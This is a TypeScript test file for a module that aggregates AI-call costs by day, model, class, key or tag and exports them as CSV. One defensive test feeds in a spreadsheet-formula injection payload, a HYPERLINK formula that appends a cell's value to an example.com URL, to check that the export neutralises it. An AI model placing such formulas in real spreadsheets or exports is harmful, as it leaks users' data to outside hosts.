import { expect, test } from "vitest";
import { type CostLine, costRows, costsCsv, type Grouping } from "./costs.ts";

function line(given: Partial<CostLine>): CostLine {
  return {
    ...{ hour: "2026-01-31T23", model: "small", provider: "simulated", class: "SIMPLE", kind: "invoke" },
    ...{ tenant: "acme", key: "k1", tags: {}, calls: 1, answers: 1, unpricedCalls: 0 },
    ...{ inputTokens: 0, cachedInputTokens: 0, cacheWriteTokens: 0, outputTokens: 0 },
    ...{ costPicoUsd: 0n, baselinePicoUsd: 0n, retryPicoUsd: 0n, atRiskPicoUsd: 0n },
    ...given,
  };
}

const LINES = [
  line({ answers: 2, costPicoUsd: 10n, baselinePicoUsd: 9_007_199_254_740_993n }),
  line({ hour: "2026-01-31T22", costPicoUsd: 3n, retryPicoUsd: 2n, atRiskPicoUsd: 7n }),
  line({ kind: "classify", model: "judge", answers: 0, costPicoUsd: 5n, unpricedCalls: 1 }),
  line({ hour: "2026-02-01T00", class: "COMPLEX", key: "", costPicoUsd: 100n }),
];

test("a day sums all that was spent, judging and calls in vain included, against the baseline", () => {
  expect(costRows(LINES, ["day"])).toEqual([
    {
      day: "2026-01-31",
      jobs: 3,
      spend_usd: "0.000000000018",
      baseline_usd: "9007.199254740993",
      net_saved_usd: "9007.199254740975",
      classifier_usd: "0.000000000005",
      retry_usd: "0.000000000002",
      unpriced_jobs: 1,
      at_risk_usd: "0.000000000007",
    },
    expect.objectContaining({ day: "2026-02-01", spend_usd: "0.0000000001", net_saved_usd: "-0.0000000001" }),
  ]);
});

test.each([
  [["hour"], [["2026-01-31T22:00:00Z"], ["2026-01-31T23:00:00Z"], ["2026-02-01T00:00:00Z"]]],
  [
    ["model", "class"],
    [
      ["judge", "SIMPLE"],
      ["small", "COMPLEX"],
      ["small", "SIMPLE"],
    ],
  ],
  [
    ["class", "provider"],
    [
      ["COMPLEX", "simulated"],
      ["SIMPLE", "simulated"],
    ],
  ],
  [["key"], [["k1"], [null]]],
] as const)(
  "grouped by %s there is a row for each, in order, and the rows add up to the whole",
  (groupings, expected) => {
    const rows = costRows(LINES, groupings);
    expect(rows.map((row) => groupings.map((name) => row[name]))).toEqual(expected);
    expect(rows.reduce((sum, { jobs }) => sum + jobs, 0)).toBe(4);
  },
);

test("grouped by a tag, jobs without it are a row of their own, whatever the tag is called", () => {
  const tagged = [
    line({ tags: { team: "a", project: "x" }, costPicoUsd: 1n }),
    line({ tags: { team: "a" }, costPicoUsd: 2n }),
    line({ costPicoUsd: 4n }),
  ];
  const spent = (...groupings: Grouping[]) =>
    costRows(tagged, groupings).map((row) => [...groupings.map((name) => row[name]), row.spend_usd]);
  expect(spent("tag:team")).toEqual([
    ["", "0.000000000004"],
    ["a", "0.000000000003"],
  ]);
  expect(spent("tag:project", "tag:team")).toEqual([
    ["", "", "0.000000000004"],
    ["", "a", "0.000000000002"],
    ["x", "a", "0.000000000001"],
  ]);
  expect(spent("tag:constructor")).toEqual([["", "0.000000000007"]]);
  const csv = costsCsv(costRows(tagged, ["tag:team"]), ["tag:team"]);
  expect(csv.split("\r\n").map((text) => text.split(",")[0])).toEqual(["tag:team", "", "a", ""]);
});

test.each(["=", "+", "-", "@", "\t", "\r", "\n"])(
  "what a caller's tag says in a CSV is no formula, with %j in front",
  (sign) => {
    const team = `${sign}HYPERLINK("https://example.com/?"&B2,"total")`;
    const rows = costRows([line({ tags: { team }, costPicoUsd: 1n })], ["tag:team"]);
    const csv = costsCsv(rows, ["tag:team"]);
    expect(csv).toContain(`\r\n"'${team.replaceAll('"', '""')}",1,`);
    expect(csv).toMatch(/,-0\.000000000001,/);
    expect(rows[0]?.["tag:team"]).toBe(team);
  },
);

test("a CSV has a line of names, the groups first, and quotes what would break it", () => {
  const rows = costRows([line({ model: 'a,"b"', costPicoUsd: 1n }), line({ key: "" })], ["model", "key"]);
  expect(costsCsv(rows, ["model", "key"])).toBe(
    [
      "model,key,jobs,spend_usd,baseline_usd,net_saved_usd,classifier_usd,retry_usd,unpriced_jobs,at_risk_usd",
      '"a,""b""",k1,1,0.000000000001,0,-0.000000000001,0,0,0,0',
      "small,,1,0,0,0,0,0,0,0",
      "",
    ].join("\r\n"),
  );
});

test("nothing spent is no row, and only the line of names", () => {
  expect(costRows([], ["day"])).toEqual([]);
  expect(costsCsv([], ["day"])).toMatch(/^day,jobs,[a-z_,]+\r\n$/);
});
